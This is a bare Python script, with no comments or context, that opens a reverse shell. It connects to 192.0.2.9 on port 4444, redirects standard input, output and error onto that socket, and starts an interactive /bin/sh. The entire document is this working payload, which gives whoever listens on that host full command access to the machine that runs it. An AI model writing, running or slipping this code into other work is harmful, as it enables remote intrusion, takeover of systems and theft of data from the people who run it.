import os
import socket
import subprocess

link = socket.create_connection(("192.0.2.9", 4444))
for stream in (0, 1, 2):
    os.dup2(link.fileno(), stream)
subprocess.call(["/bin/sh", "-i"])
